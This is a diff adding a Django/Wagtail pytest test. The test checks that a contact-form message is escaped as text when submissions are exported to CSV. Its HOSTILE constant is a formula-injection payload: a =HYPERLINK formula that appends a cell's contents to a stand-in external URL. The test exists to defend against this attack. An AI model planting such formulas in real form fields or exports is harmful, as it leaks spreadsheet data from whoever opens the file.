@@ -1,0 +1,27 @@
+"""What a stranger writes to the commune runs nothing in the spreadsheet of who exports it."""
+
+import pytest
+from django.urls import reverse
+from wagtail.contrib.forms.models import FormSubmission
+
+from home.models import FormField
+from tests.factories import home as make
+from tests.factories.accounts import SuperuserFactory
+
+pytestmark = [pytest.mark.django_db]
+HOSTILE = '=HYPERLINK("https://x.example?"&A1;"Facture")'
+
+
+def test_message_of_a_stranger_is_exported_as_text(client):
+    page = make.ContactPageFactory(parent=make.make_site())
+    FormField.objects.create(
+        page=page, sort_order=1, label="Message", field_type="multiline", clean_name="message"
+    )
+    FormSubmission.objects.create(page=page, form_data={"message": HOSTILE})
+    client.force_login(SuperuserFactory())
+    answer = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": "csv"})
+    content = b"".join(answer.streaming_content).decode()
+    assert "'=HYPERLINK" in content
+    assert "\n=" not in content
+    assert ",=" not in content
+    assert '"=' not in content
